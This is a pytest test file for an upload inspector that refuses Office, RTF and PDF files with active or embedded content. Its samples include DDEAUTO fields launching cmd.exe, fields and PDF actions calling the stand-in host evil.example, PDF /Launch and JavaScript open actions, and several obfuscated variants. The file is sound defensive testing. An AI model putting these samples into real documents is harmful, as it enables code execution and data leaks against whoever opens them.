"""Files that act when somebody opens them, or can't be looked into, are refused."""

from io import BytesIO

import pytest

from tests.sm_plugin.files import samples as made
from tests.sm_plugin.files.inspecting import kept, refusal

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(cmd.exe)>>"


# --- Word and Excel -----------------------------------------------------------------------------

ACTING = [
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    "  dde Excel Sheet1 R1C1",
    'INCLUDETEXT "C:\\\\Users\\\\ruth\\\\secret.txt"',
    'LINK Excel.Sheet.12 "C:\\\\a.xlsx" a',
    'DATABASE \\d "C:\\\\a.mdb"',
    'IMPORT "http://evil.example/a.png"',
]
LOADING = [
    'INCLUDEPICTURE "http://evil.example/a.png" \\d',
    "INCLUDEPICTURE http://evil.example/a.png",
    'INCLUDEPICTURE "\\\\\\\\server\\\\share\\\\a.png"',
]
HARMLESS = [
    "PAGE \\* MERGEFORMAT",
    'HYPERLINK "http://example.org/"',
    'TOC \\o "1-3"',
    'INCLUDEPICTURE "C:\\\\Users\\\\ruth\\\\knee.png"',
    "REF DDEAUTO",
    "QUOTE DDEAUTO",
]
CASES = [(text, "file_acts") for text in ACTING] + [(text, "file_embeds") for text in LOADING]


def in_word(text: str) -> bytes:
    return made.word(made.field(text))


def in_old_word(text: str) -> bytes:
    return made.doc(text=b"\x13" + text.encode() + b"\x14shown\x15")


def in_rtf(text: str) -> bytes:
    escaped = text.replace("\\", "\\\\").encode()
    return rb"{\rtf1\ansi{\field{\*\fldinst " + escaped + rb"}{\fldrslt shown}}}"


@pytest.mark.parametrize(("text", "code"), CASES)
@pytest.mark.parametrize(
    ("ending", "made_of"), [("docx", in_word), ("doc", in_old_word), ("rtf", in_rtf)]
)
def test_a_field_that_acts_when_the_document_is_opened_is_refused(text, code, ending, made_of):
    assert refusal(f"a.{ending}", made_of(text)) == code


@pytest.mark.parametrize("text", HARMLESS)
@pytest.mark.parametrize(
    ("ending", "made_of"), [("docx", in_word), ("doc", in_old_word), ("rtf", in_rtf)]
)
def test_a_field_that_only_shows_something_is_taken(text, ending, made_of):
    assert kept(f"a.{ending}", made_of(text)).content


def test_a_field_that_is_broken_up_is_read_as_word_reads_it():
    assert refusal("a.docx", made.word(made.field("D", "DE", "AUTO cmd"))) == "file_acts"
    nested = made.field("QUOTE ").replace("<w:t>shown</w:t>", "") + made.field("DDE", "AUTO x")
    assert refusal("a.docx", made.word(nested)) == "file_acts"
    wide = "\x13 DDEAUTO cmd \x14".encode("utf-16-le")
    assert refusal("a.doc", made.doc(text=wide)) == "file_acts"
    for text in (
        rb"D{\b DE}AUTO cmd",
        rb"\'44\'44\'45AUTO cmd",
        rb"\u68?\u68?\u69?AUTO cmd",
        b"D\r\nD\nEAUTO cmd",
    ):
        content = rb"{\rtf1{\field{\*\fldinst{" + text + rb"}}{\fldrslt x}}}"
        assert refusal("a.rtf", content) == "file_acts", text


@pytest.mark.parametrize("part", ["header1", "footnotes", "comments", "glossary/document"])
def test_a_field_acts_wherever_in_the_document_it_stands(part):
    extra = {f"word/{part}.xml": made.word_part(made.field("DDEAUTO cmd"), "hdr")}

    assert refusal("a.docx", made.docx(extra)) == "file_acts"


def test_a_field_in_one_element_or_in_another_alphabet_is_read_too():
    simple = '<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'
    assert refusal("a.docx", made.word(simple)) == "file_acts"
    written = made.word_part(made.field("&#68;&#x44;EAUTO cmd")).decode()
    for code in ("utf-8", "utf-16"):
        extra = {"word/document.xml": written.encode(code)}
        assert refusal("a.docx", made.docx(extra)) == "file_acts", code
    extra = {"word/document.xml": b'<?xml version="1.0" encoding="IBM037"?>' + written.encode()}
    assert refusal("a.docx", made.docx(extra)) == "file_damaged"


@pytest.mark.parametrize("kind", ["aFChunk", "oleObject", "package", "subDocument"])
def test_whole_files_in_a_document_are_refused_wherever_they_lie(kind):
    inside = made.link(kind, "afchunk.dat").replace(' TargetMode="External"', "")
    content = made.docx({"word/afchunk.dat": b"<html></html>"}, links=inside)

    assert refusal("a.docx", content) == "file_embeds"


@pytest.mark.parametrize(
    "name",
    ["word/embeddings/a.docx", "word/embeddings/a.bin", "xl/embeddings/a.exe", "embeddings/a"],
)
def test_every_file_in_the_folder_of_embedded_files_is_refused(name):
    assert refusal("a.docx", made.docx({name: b"x"})) == "file_embeds"


@pytest.mark.parametrize("kind", ["connections", "queryTable", "mailMergeSource"])
def test_a_document_that_fetches_data_is_refused(kind):
    inside = made.link(kind, "connections.xml").replace(' TargetMode="External"', "")

    assert refusal("a.docx", made.docx(links=inside)) == "file_acts"


@pytest.mark.parametrize(
    ("name", "part", "code"),
    [
        ("xl/externalLinks/externalLink1.xml", '<x><ddeLink ddeService="cmd"/></x>', "file_acts"),
        ("xl/worksheets/s.xml", '<x><c><f>_xlfn.WEBSERVICE("http://e/")</f></c></x>', "file_acts"),
        ("xl/worksheets/s.xml", "<x><f>&#87;EBSERVICE (A1)</f></x>", "file_acts"),
        ("xl/worksheets/s.xml", '<x><f>RTD("a.b",,"c")</f></x>', "file_acts"),
    ],
)
def test_a_workbook_that_acts_when_it_is_opened_is_refused(name, part, code):
    parts = made.unzipped(made.xlsx()) | {name: part.encode()}

    assert refusal("a.xlsx", made.zipped(parts)) == code


def test_an_older_workbook_that_acts_when_it_is_opened_is_refused():
    topic = b"\x01\0\x0a\0\0cmd\x03/c calc"
    assert refusal("a.xls", made.xls(made.record(0x1AE, topic))) == "file_acts"
    assert refusal("a.xls", made.xls(made.record(0x876, bytes(20)))) == "file_acts"
    own = made.record(0x1AE, b"\x01\0\x01\x04")
    assert kept("a.xls", made.xls(own)).content, "a workbook may name its own sheets"


@pytest.mark.parametrize(
    "content",
    [
        rb"{\rtf1{\object\objemb{\*\objdata 0105}}}",
        rb"{\rtf1{\object\objlink\objh1{\*\objclass Word}}}",
        rb"{\rtf1{\*\ob" + b"\n" + rb"jdata 0105}}",
        rb"{\rtf1{\*\obj{}data 0105}}",
        rb"{\rtf1\objupdate}",
        rb"{\rtf1{\object\objhtml}}",
    ],
)
def test_an_object_in_rich_text_is_found_however_it_is_broken_up(content):
    assert refusal("a.rtf", content) == "file_embeds"


def test_a_rich_text_that_speaks_of_objects_is_taken():
    assert kept("a.rtf", rb"{\rtf1\ansi The folder C:\\objects and \{braces\}.}").content


# --- PDF ----------------------------------------------------------------------------------------


def test_a_pdf_that_needs_a_password_is_refused():
    assert refusal("a.pdf", made.locked_pdf(True)) == "file_locked"


def test_a_pdf_that_is_only_protected_against_changes_is_taken_and_looked_into():
    content = made.locked_pdf(False)
    assert kept("a.pdf", content).content == content

    acting = made.locked_pdf(False, LAUNCH, catalog=b"/OpenAction 4 0 R")
    assert refusal("a.pdf", acting) == "file_acts"


@pytest.mark.parametrize(
    ("objects", "catalog"),
    [
        ([SCRIPT], b"/OpenAction 4 0 R"),
        ([], b"/OpenAction" + SCRIPT),
        ([b"<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>", SCRIPT], b"/OpenAction 4 0 R"),
        ([SCRIPT, b"<</Names[(a) 4 0 R]>>"], b"/Names<</JavaScript 5 0 R>>"),
        ([SCRIPT], b"/AA<</WC 4 0 R>>"),
        ([b"<</Type/Page/Parent 2 0 R/AA<</O 5 0 R>>>>", SCRIPT], b""),
        ([b"<</Type/Page/AA<</C 5 0 R>>>>", SCRIPT], b""),
        ([b"<</Subtype/Widget/AA<</PO 5 0 R>>>>", SCRIPT], b""),
        ([b"<</S/URI/URI(http://evil.example)>>"], b"/OpenAction 4 0 R"),
        ([b"<</S/SubmitForm/F(http://evil.example)>>"], b"/OpenAction 4 0 R"),
        ([b"<</S/GoToR/F(//server/a.pdf)>>"], b"/OpenAction 4 0 R"),
        ([LAUNCH], b""),
        ([b"<</Subtype/Link/A" + LAUNCH + b">>"], b""),
        ([b"<</S/L#61unch/F(cmd.exe)>>"], b""),
        ([b"<</Other(obj)/S/Launch>>"], b""),
        ([b"<</Other(a\\(b)/S /Launch>>"], b""),
        ([b"<<%c\n/S%c\n/Launch>>"], b""),
        ([made.packed(LAUNCH)], b""),
        ([made.packed(b"<</S/URI/URI(x)>>", first=10)], b"/OpenAction 10 0 R"),
        ([made.packed(b"(a)", SCRIPT, first=9)], b"/OpenAction 10 0 R"),
    ],
)
def test_a_pdf_that_acts_by_itself_or_starts_programs_is_refused(objects, catalog):
    assert refusal("a.pdf", made.pdf(*objects, catalog=catalog)) == "file_acts"


@pytest.mark.parametrize(
    ("objects", "catalog"),
    [
        ([b"<</Type/EmbeddedFile/Length 3>>stream\nabc\nendstream"], b""),
        ([b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"], b""),
        ([b"<</Names[(a) 5 0 R]>>"], b"/Names<</EmbeddedFiles 4 0 R>>"),
        ([b"<</Type/Annot/Subtype/FileAttachment>>"], b""),
        ([b"<</Type/Annot/Subtype/RichMedia>>"], b""),
        ([made.packed(b"<</Type/Filespec/EF<</F 5 0 R>>>>")], b""),
    ],
)
def test_a_pdf_that_brings_other_files_is_refused(objects, catalog):
    assert refusal("a.pdf", made.pdf(*objects, catalog=catalog)) == "file_embeds"


@pytest.mark.parametrize(
    ("objects", "catalog"),
    [
        ([], b"/OpenAction[3 0 R/Fit]"),
        ([b"<</S/GoTo/D[3 0 R/Fit]>>"], b"/OpenAction 4 0 R"),
        ([b"<</S/Named/N/Print>>"], b"/OpenAction 4 0 R"),
        ([b"<</Subtype/Link/A<</S/URI/URI(http://example.org)>>>>"], b"/OpenAction[3 0 R/Fit]"),
        ([b"<</FT/Tx/T(date)/AA<</K 5 0 R/F 5 0 R/V 5 0 R/C 5 0 R>>>>", SCRIPT], b""),
        ([b"<</Subtype/Widget/FT/Btn/A 5 0 R>>", SCRIPT], b""),
        ([b"<</Names[]>>"], b"/Names<</EmbeddedFiles 4 0 R/JavaScript 4 0 R>>"),
        ([b"<</Contents(Do not /S /Launch this, says /JavaScript)>>"], b""),
        ([b"<</Type/Font/BaseFont/Arial#20Bold>>"], b""),
        ([made.packed(b"<</Type/Font>>", b"<</S/GoTo>>")], b""),
        ([made.packed(b"<</Type/Font>>", head=b"/Filter/FlateDecode/Extends 5 0 R")], b""),
    ],
)
def test_a_pdf_in_which_a_person_starts_what_happens_is_taken(objects, catalog):
    content = made.pdf(*objects, catalog=catalog)

    assert kept("a.pdf", content).content == content


@pytest.mark.parametrize(
    "hidden",
    [
        made.packed(LAUNCH, head=b"/Filter/LZWDecode"),
        made.packed(LAUNCH, head=b"/Filter[/ASCIIHexDecode/FlateDecode]"),
        made.packed(LAUNCH).replace(b"x\x9c", b"y\x9c", 1),
        made.packed(LAUNCH, head=b"/Filter/FlateDecode/X(stream\n)"),
        made.packed(LAUNCH, head=b"/F#69lter/FlateDecode"),
    ],
)
def test_packed_objects_that_hide_are_refused(hidden):
    assert refusal("a.pdf", made.pdf(hidden)) in {"file_damaged", "file_acts"}


def test_an_older_version_of_a_pdf_counts_too():
    """Readers that repair a damaged file may fall back to it."""
    first = made.pdf(LAUNCH)
    later = (
        b"4 0 obj\n<</S/GoTo>>\nendobj\nxref\n0 0\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
    )

    assert refusal("a.pdf", first + later) == "file_acts"


def test_a_pdf_of_another_program_is_taken():
    """Written by a library of its own, not by our hands."""
    from pypdf import PdfWriter

    writer, written = PdfWriter(), BytesIO()
    for _page in range(20):
        writer.add_blank_page(200, 200)
    writer.compress_identical_objects()
    writer.write(written)

    assert kept("a.pdf", written.getvalue()).content
